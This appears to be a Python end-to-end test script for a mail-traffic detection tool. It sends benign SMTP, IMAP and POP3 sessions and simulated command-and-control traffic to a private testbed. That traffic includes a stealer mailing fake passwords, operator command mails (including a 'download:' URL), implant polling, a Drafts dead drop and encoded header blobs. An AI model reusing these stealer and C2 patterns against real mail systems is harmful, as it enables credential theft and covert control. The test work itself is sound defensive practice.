@@ -1,0 +1,293 @@
+#!/usr/bin/python3
+"""Real mail clients, run inside the pe2e-client namespace: swaks, curl and Python's
+smtplib/imaplib/poplib, each scenario from its own source address so its flows are easy to find.
+
+    ip netns exec pe2e-client /usr/bin/python3 tests/e2e/clients.py STATE_DIR OUT.json
+
+Writes what each scenario sent (the truth the tests compare postern's records with)."""
+import base64
+import email.message
+import email.utils
+import imaplib
+import json
+import os
+import pathlib
+import poplib
+import random
+import smtplib
+import socket
+import ssl
+import subprocess
+import sys
+import time
+
+SERVER = "10.99.0.2"
+PASSWORDS = {"alice@corp.example": "alice-Secr3t", "bob@corp.example": "bob-Secr3t",
+             "drop@partner.example": "drop-Secr3t"}
+MACHINE = "DESKTOP-AB12CD7"  # a default Windows host name, as stealers' EHLO shows
+TLS = ssl.create_default_context()
+TLS.check_hostname = False
+TLS.verify_mode = ssl.CERT_NONE  # the testbed's certificate is self-signed
+
+_next_ip = iter(f"10.99.0.{i}" for i in range(11, 40))
+
+
+class BoundIMAP(imaplib.IMAP4):
+    def __init__(self, src, host, port=143):
+        self._src = src
+        super().__init__(host, port, timeout=20)
+
+    def _create_socket(self, timeout):
+        return socket.create_connection((self.host, self.port), timeout, source_address=(self._src, 0))
+
+
+class BoundPOP3(poplib.POP3):
+    def __init__(self, src, host, port=110):
+        self._src = src
+        self.host, self.port = host, port
+        self._tls_established = False
+        self.sock = socket.create_connection((host, port), 20, source_address=(src, 0))
+        self.file = self.sock.makefile("rb")
+        self._debugging = 0
+        self.welcome = self._getresp()
+
+
+def message(sender, to, subject, body, attachments=(), extra_headers=(), mailer=None):
+    m = email.message.EmailMessage()
+    m["From"] = sender
+    m["To"] = ", ".join(to)
+    m["Subject"] = subject
+    m["Date"] = email.utils.formatdate(localtime=False)
+    m["Message-ID"] = email.utils.make_msgid(domain="corp.example")
+    if mailer:
+        m["X-Mailer"] = mailer
+    for k, v in extra_headers:
+        m[k] = v
+    m.set_content(body)
+    for name, data, ctype in attachments:
+        maintype, subtype = ctype.split("/")
+        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
+    return m
+
+
+def wait_mail(state_dir, user, count, timeout=20):
+    local, domain = user.split("@")
+    new = pathlib.Path(state_dir) / "mail" / domain / local / "Maildir" / "new"
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if new.exists() and len(list(new.iterdir())) >= count:
+            return
+        time.sleep(0.2)
+    raise RuntimeError(f"{user}: {count} messages not delivered after {timeout}s")
+
+
+class Run:
+    def __init__(self, state_dir):
+        self.state_dir = state_dir
+        self.scenarios = []
+
+    def scenario(self, name, kind, protocol, port, **expect):
+        s = {"name": name, "kind": kind, "protocol": protocol, "port": port, "src_ip": next(_next_ip),
+             "expect": expect}
+        self.scenarios.append(s)
+        return s
+
+    # -- benign ------------------------------------------------------------------------------
+    def swaks_plain(self):
+        s = self.scenario("smtp_swaks_plain", "benign", "smtp", 25, helo="ws-0423.corp.example",
+                          mail_from="<alice@corp.example>", rcpt_to=["<bob@corp.example>"],
+                          subject="Minutes of the Tuesday meeting")
+        subprocess.run(["swaks", "--server", SERVER, "--port", "25", "-li", s["src_ip"], "--helo", s["expect"]["helo"],
+                        "--from", "alice@corp.example", "--to", "bob@corp.example",
+                        "--header", f"Subject: {s['expect']['subject']}",
+                        "--body", "Hi Bob,\n\nthe minutes are below. Next meeting on Tuesday.\n\nAlice\n"],
+                       check=True, capture_output=True)
+
+    def swaks_starttls_auth(self):
+        s = self.scenario("smtp_swaks_starttls_auth", "benign", "smtp", 587, helo="ws-0424.corp.example",
+                          starttls=True, hidden_subject="Salary review (confidential)")
+        subprocess.run(["swaks", "--server", SERVER, "--port", "587", "-li", s["src_ip"], "--helo", s["expect"]["helo"],
+                        "--tls", "--auth", "PLAIN", "--auth-user", "alice@corp.example",
+                        "--auth-password", PASSWORDS["alice@corp.example"],
+                        "--from", "alice@corp.example", "--to", "bob@corp.example",
+                        "--header", f"Subject: {s['expect']['hidden_subject']}"], check=True, capture_output=True)
+
+    def smtplib_auth_attachment(self):
+        s = self.scenario("smtp_smtplib_auth_attachment", "benign", "smtp", 587, helo="ws-0425.corp.example",
+                          mail_from="<alice@corp.example>", rcpt_to=["<bob@corp.example>"],
+                          subject="Q3 report", attachments=["report-Q3.pdf"],
+                          auth={"mechanism": "PLAIN", "user": "alice@corp.example"})
+        pdf = b"%PDF-1.4\n" + bytes(random.Random(3).randrange(256) for _ in range(6000)) + b"\n%%EOF\n"
+        m = message("Alice <alice@corp.example>", ["bob@corp.example"], "Q3 report",
+                    "Bob, the Q3 report is attached.\n", [("report-Q3.pdf", pdf, "application/pdf")],
+                    mailer="Microsoft Outlook 16.0")
+        with smtplib.SMTP(SERVER, 587, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0)) as c:
+            c.ehlo()
+            c.login("alice@corp.example", PASSWORDS["alice@corp.example"])  # PLAIN: first smtplib knows
+            c.send_message(m)
+
+    def curl_smtp(self):
+        s = self.scenario("smtp_curl", "benign", "smtp", 25, mail_from="<alice@corp.example>",
+                          rcpt_to=["<bob@corp.example>"], subject="Lunch on Friday?")
+        body = (f"From: alice@corp.example\r\nTo: bob@corp.example\r\nSubject: {s['expect']['subject']}\r\n"
+                f"Date: {email.utils.formatdate()}\r\nMessage-ID: <curl-1@corp.example>\r\n\r\nPizza?\r\n")
+        subprocess.run(["curl", "-sS", "--interface", s["src_ip"], f"smtp://{SERVER}:25/ws-0426.corp.example",
+                        "--mail-from", "alice@corp.example", "--mail-rcpt", "bob@corp.example", "-T", "-"],
+                       input=body.encode(), check=True, capture_output=True)
+
+    def imap_read(self):
+        s = self.scenario("imap_imaplib_read", "benign", "imap", 143, user="bob@corp.example",
+                          mailboxes=["INBOX"], commands=["LOGIN", "SELECT", "FETCH", "LOGOUT"],
+                          fetched_from=["Minutes of the Tuesday meeting", "Salary review (confidential)", "Q3 report", "Lunch on Friday?"])
+        c = BoundIMAP(s["src_ip"], SERVER)
+        c.login("bob@corp.example", PASSWORDS["bob@corp.example"])
+        c.select("INBOX")
+        c.fetch("1", "(BODY.PEEK[])")
+        c.logout()
+
+    def pop3_read(self):
+        s = self.scenario("pop3_poplib_read", "benign", "pop3", 110, user="bob@corp.example",
+                          commands=["USER", "PASS", "STAT", "LIST", "RETR", "QUIT"],
+                          retrieved_from=["Minutes of the Tuesday meeting", "Salary review (confidential)", "Q3 report", "Lunch on Friday?"])
+        c = BoundPOP3(s["src_ip"], SERVER)
+        c.user("bob@corp.example")
+        c.pass_(PASSWORDS["bob@corp.example"])
+        c.stat()
+        c.list()
+        c.retr(1)
+        c.quit()
+
+    def curl_imap_pop3(self):
+        s = self.scenario("imap_curl", "benign", "imap", 143, user="bob@corp.example", mailboxes=["INBOX"])
+        subprocess.run(["curl", "-sS", "--interface", s["src_ip"], "-u", f"bob@corp.example:{PASSWORDS['bob@corp.example']}",
+                        f"imap://{SERVER}/INBOX;UID=1", "-o", "/dev/null"], check=True, capture_output=True)
+        s = self.scenario("pop3_curl", "benign", "pop3", 110, user="bob@corp.example")
+        subprocess.run(["curl", "-sS", "--interface", s["src_ip"], "-u", f"bob@corp.example:{PASSWORDS['bob@corp.example']}",
+                        f"pop3://{SERVER}/1", "-o", "/dev/null"], check=True, capture_output=True)
+
+    def imap_pop3_starttls(self):
+        s = self.scenario("imap_starttls", "benign", "imap", 143, starttls=True)
+        c = BoundIMAP(s["src_ip"], SERVER)
+        c.starttls(ssl_context=TLS)
+        c.login("bob@corp.example", PASSWORDS["bob@corp.example"])
+        c.select("INBOX")
+        c.logout()
+        s = self.scenario("pop3_stls", "benign", "pop3", 110, starttls=True)
+        c = BoundPOP3(s["src_ip"], SERVER)
+        c.stls(context=TLS)
+        c.user("bob@corp.example")
+        c.pass_(PASSWORDS["bob@corp.example"])
+        c.stat()
+        c.quit()
+
+    # -- C2-like -----------------------------------------------------------------------------
+    def stealer_exfil(self):
+        subject = f"PW_jsmith/{MACHINE}"
+        s = self.scenario("c2_smtp_stealer_exfil", "c2", "smtp", 587, helo=MACHINE,
+                          mail_from="<drop@partner.example>", rcpt_to=["<drop@partner.example>"], subject=subject,
+                          attachments=["passwords.txt"], auth={"mechanism": "LOGIN", "user": "drop@partner.example"},
+                          rules=[9100101, 9100201, 9100202])
+        report = (f"Time: 11/27/2026 10:02:11\nUser Name: jsmith\nComputer Name: {MACHINE}\n"
+                  "OSFullName: Microsoft Windows 10 Pro\nCPU: Intel(R) Core(TM) i5-8250U\nRAM: 8072.43 MB\n")
+        creds = "".join(f"Host: https://portal{i}.corp.example\nUsername: jsmith\nPassword: hunter{i}\n\n"
+                        for i in range(20)).encode()
+        m = message("drop@partner.example", ["drop@partner.example"], subject, report,
+                    [("passwords.txt", creds, "text/plain")])
+        with smtplib.SMTP(SERVER, 587, local_hostname=MACHINE, source_address=(s["src_ip"], 0)) as c:
+            c.ehlo()
+            c.user, c.password = "drop@partner.example", PASSWORDS["drop@partner.example"]
+            c.auth("LOGIN", c.auth_login)
+            c.send_message(m)
+
+    def pop3_polling(self):
+        # The operator queues two commands as mail to the drop box; the implant polls by POP3,
+        # retrieves and deletes them, then polls an empty box.
+        seed = self.scenario("c2_smtp_command_queue", "c2", "smtp", 25, helo="ops.partner.example",
+                             mail_from="<ops@partner.example>", rcpt_to=["<drop@partner.example>"],
+                             subjects=["exec: ipconfig /all", "download: http://10.99.0.2/x.bin"],
+                             rules=[9100603])
+        with smtplib.SMTP(SERVER, 25, local_hostname="ops.partner.example", source_address=(seed["src_ip"], 0)) as c:
+            for subj in seed["expect"]["subjects"]:
+                c.send_message(message("ops@partner.example", ["drop@partner.example"], subj, "--\n"))
+        wait_mail(self.state_dir, "drop@partner.example", 3)  # and the stealer's report
+        s = self.scenario("c2_pop3_polling", "c2", "pop3", 110, user="drop@partner.example", sessions=3,
+                          commands=[["USER", "PASS", "STAT", "RETR", "DELE", "QUIT"]] * 3,
+                          retrieved_from=[f"PW_jsmith/{MACHINE}", "exec: ipconfig /all",
+                                          "download: http://10.99.0.2/x.bin"],
+                          rules=[9100603])
+        for _ in range(3):
+            c = BoundPOP3(s["src_ip"], SERVER)
+            c.user("drop@partner.example")
+            c.pass_(PASSWORDS["drop@partner.example"])
+            c.stat()
+            c.retr(1)
+            c.dele(1)
+            c.quit()
+            time.sleep(0.3)
+
+    def imap_dead_drop(self):
+        blob = base64.b64encode(bytes(random.Random(7).randrange(256) for _ in range(600))).decode()
+        s = self.scenario("c2_imap_drafts_dead_drop", "c2", "imap", 143, user="drop@partner.example", sessions=2,
+                          mailboxes=["Drafts"], subject="cmd: upload C:\\Users\\jsmith\\Documents",
+                          commands=[["LOGIN", "APPEND", "LOGOUT"],
+                                    ["LOGIN", "SELECT", "FETCH", "STORE", "EXPUNGE", "LOGOUT"]],
+                          rules=[9100603, 9100604])
+        draft = message("drop@partner.example", ["drop@partner.example"], s["expect"]["subject"], blob + "\n")
+        c = BoundIMAP(s["src_ip"], SERVER)  # operator leaves a draft
+        c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
+        c.append("Drafts", r"(\Draft)", None, draft.as_bytes())
+        c.logout()
+        time.sleep(0.3)
+        c = BoundIMAP(s["src_ip"], SERVER)  # implant reads and deletes it
+        c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
+        c.select("Drafts")
+        c.fetch("1", "(BODY[])")
+        c.store("1", "+FLAGS", r"(\Deleted)")
+        c.expunge()
+        c.logout()
+
+    def odd_port(self):
+        helo = "WIN-3K7Q9ZT1ABC"
+        s = self.scenario("c2_smtp_odd_port", "c2", "smtp", 2626, helo=helo, mail_from="<drop@partner.example>",
+                          rcpt_to=["<alice@corp.example>"], subject="Status report", rules=[9100201])
+        subprocess.run(["swaks", "--server", SERVER, "--port", "2626", "-li", s["src_ip"], "--helo", helo,
+                        "--from", "drop@partner.example", "--to", "alice@corp.example",
+                        "--header", "Subject: Status report", "--body", "beacon 1\n"], check=True, capture_output=True)
+
+    def encoded_header(self):
+        blob = base64.b64encode(bytes(random.Random(11).randrange(256) for _ in range(300))).decode()
+        s = self.scenario("c2_smtp_x_header_blob", "c2", "smtp", 25, helo="ws-0999.corp.example",
+                          mail_from="<bob@corp.example>", rcpt_to=["<alice@corp.example>"], subject="Re: invoice",
+                          x_header=blob, rules=[9100303])
+        m = message("bob@corp.example", ["alice@corp.example"], "Re: invoice", "see attached\n",
+                    extra_headers=[("X-Data", blob)])
+        with smtplib.SMTP(SERVER, 25, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0)) as c:
+            c.send_message(m)
+
+    def run_all(self):
+        self.swaks_plain()
+        self.swaks_starttls_auth()
+        self.smtplib_auth_attachment()
+        self.curl_smtp()
+        self.stealer_exfil()
+        self.odd_port()
+        self.encoded_header()
+        wait_mail(self.state_dir, "bob@corp.example", 4)
+        self.imap_read()
+        self.pop3_read()
+        self.curl_imap_pop3()
+        self.imap_pop3_starttls()
+        self.pop3_polling()
+        self.imap_dead_drop()
+
+
+if __name__ == "__main__":
+    run = Run(sys.argv[1])
+    error = None
+    try:
+        run.run_all()
+    except Exception as e:  # report what ran; the test fails on the error
+        error = f"{type(e).__name__}: {e}"
+    pathlib.Path(sys.argv[2]).write_text(json.dumps({"scenarios": run.scenarios, "error": error,
+                                                     "passwords": list(PASSWORDS.values())}, indent=1))
+    sys.exit(1 if error else 0)
